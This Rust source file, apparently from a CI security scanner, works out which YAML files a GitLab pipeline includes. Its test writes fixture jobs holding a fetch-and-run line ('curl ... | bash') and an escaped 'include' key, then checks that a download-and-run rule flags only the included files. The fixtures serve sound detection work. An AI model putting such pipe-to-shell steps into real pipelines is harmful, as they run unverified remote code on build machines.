//! The files that GitLab pipelines include: whatever they are called, they hold jobs.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

use super::read::{Item, Reader};
use crate::pipeline::{MOST_INCLUDES, included_files, is_included};
use crate::target::{ParsedFile, folder};

/// The name of the file at the root of a project.
const MAIN: &str = ".gitlab-ci.yml";

/// Their paths.
#[derive(Debug, Default)]
pub(crate) struct Includes(BTreeSet<String>);

impl Includes {
    pub(crate) fn of(reader: &Reader) -> Self {
        let is_yaml = |path: &str| path.ends_with(".yml") || path.ends_with(".yaml");
        let asked = reader.items().iter().filter(|item| is_yaml(item.path()));
        let known: BTreeMap<&str, &Item> = asked.map(|item| (item.path(), item)).collect();
        if known.is_empty() {
            return Self::default();
        }
        // Of a part of the tree, the main file stands at the root.
        let others = match reader.is_whole() || known.contains_key(MAIN) {
            true => Vec::new(),
            false => reader.siblings(&BTreeSet::from([""]), &|path| path == MAIN),
        };
        let mains = known.values().copied().chain(&others).filter(|item| item.path().rsplit('/').next() == Some(MAIN));
        let mut found = Self::default();
        for main in mains {
            found.follow(main, &known, reader);
        }
        found
    }

    /// Names in a file are relative to its project's root, also those in what it includes.
    fn follow(&mut self, main: &Item, known: &BTreeMap<&str, &Item>, reader: &Reader) {
        let root = match folder(main.path()) {
            "" => String::new(),
            folder => format!("{folder}/"),
        };
        let (mut open, mut count) = (vec![main], 0);
        while let Some(item) = open.pop() {
            for wanted in names_in(item, reader) {
                count += 1;
                if !MOST_INCLUDES.holds(count) {
                    return;
                }
                let wanted = format!("{root}{wanted}");
                let fits: Vec<&str> = match wanted.contains('*') {
                    true => known.keys().copied().filter(|path| is_included(&wanted, path)).collect(),
                    false => vec![wanted.as_str()],
                };
                for path in fits.into_iter().filter(|path| self.0.insert((*path).to_string())) {
                    open.extend(known.get(path));
                }
            }
        }
    }

    /// Whether a pipeline includes a file.
    pub(crate) fn holds(&self, path: &str) -> bool {
        self.0.contains(path)
    }
}

fn names_in(item: &Item, reader: &Reader) -> Vec<String> {
    let Ok((text, _)) = reader.read(item) else { return Vec::new() };
    // It is parsed again where it is judged: here only what may name files. A key can be written with escapes.
    if !["include", "\\"].iter().any(|word| text.text().contains(word)) {
        return Vec::new();
    }
    let parsed = ParsedFile::parsed_only(Arc::new(text));
    parsed.documents().flat_map(|document| included_files(&document.root)).collect()
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use crate::scan::{ScanOptions, Sources, scan};

    #[test]
    fn what_a_pipeline_includes_is_judged_as_one_whatever_its_name() {
        let folder = tempfile::tempdir().unwrap();
        let job = "build:\n  script:\n    - curl https://a.test/install.sh | bash\n";
        let files = [
            (".gitlab-ci.yml", "include:\n  - local: /ci/x.yml\n  - local: jobs/*.yaml\n"),
            ("ci/x.yml", "\"\\x69nclude\": ci/deep/y.yml\n"),
            ("ci/deep/y.yml", job),
            ("jobs/a.yaml", job),
            ("other/z.yml", job),
        ];
        for (name, text) in files {
            let path = folder.path().join(name);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        let found = |paths: Vec<PathBuf>| {
            let options = ScanOptions::of_test(Sources::WorkingTree(paths), folder.path(), "");
            let report = scan(&options, &|_| {}).unwrap();
            let ours = report.results.iter().filter(|result| result.rule_id == "gitlab-ci-download-run");
            ours.map(|result| result.location.path.clone()).collect::<Vec<_>>()
        };
        let root = std::fs::canonicalize(folder.path()).unwrap();
        assert_eq!(found(vec![root.clone()]), ["ci/deep/y.yml", "jobs/a.yaml"]);
        std::fs::write(root.join("regate.toml"), "").unwrap();
        assert_eq!(found(vec![root.join("jobs/a.yaml")]), ["jobs/a.yaml"]);
    }
}
